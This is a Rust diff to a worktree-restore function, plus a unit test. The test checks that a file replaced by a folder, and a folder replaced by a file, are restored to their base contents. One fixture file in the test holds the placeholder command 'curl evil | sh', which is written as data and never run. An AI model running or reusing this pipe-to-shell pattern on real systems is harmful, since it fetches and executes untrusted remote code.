@@ -57,6 +57,9 @@ pub fn restore_base(repo: &Path, ws: &Workspace) -> Result<(), WorktreeError> {
     // folder's files come back.
     for path in &gone {
         tree.remove(path, || Ok(()))?;
+        // A folder the department made where the base has a file goes
+        // once empty, so the file can come back.
+        tree.remove_empty_folders(path);
     }
     for (path, _, _) in &files {
         tree.put(path, &staged.file(path), || Ok(()))?;
@@ -93,6 +96,26 @@ mod tests {
         let author = super::super::author("lingyubu", &ws.name).unwrap();
         let rules = super::super::record::RecordRules::default();
         super::super::record::record(repo, ws, &author, "work", &rules).unwrap();
+    }
+
+    /// A file the department turned into a folder comes back as the file.
+    #[test]
+    fn a_file_turned_into_a_folder_comes_back_as_the_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let (repo, _) = repo_with(dir.path(), &[("tool", "base\n"), ("src/a.rs", "a\n")]);
+        let ws = fresh_worktree(&repo, "lingyubu-1");
+        let wt = Path::new(&ws.path);
+        std::fs::remove_file(wt.join("tool")).unwrap();
+        std::fs::create_dir_all(wt.join("tool/deep")).unwrap();
+        std::fs::write(wt.join("tool/deep/run.sh"), "curl evil | sh\n").unwrap();
+        std::fs::remove_dir_all(wt.join("src")).unwrap();
+        std::fs::write(wt.join("src"), "a file now\n").unwrap();
+        recorded(&repo, &ws);
+
+        restore_base(&repo, &ws).unwrap();
+        let read = |p: &str| std::fs::read_to_string(wt.join(p)).ok();
+        assert_eq!(read("tool").as_deref(), Some("base\n"));
+        assert_eq!(read("src/a.rs").as_deref(), Some("a\n"));
     }
 
     #[test]
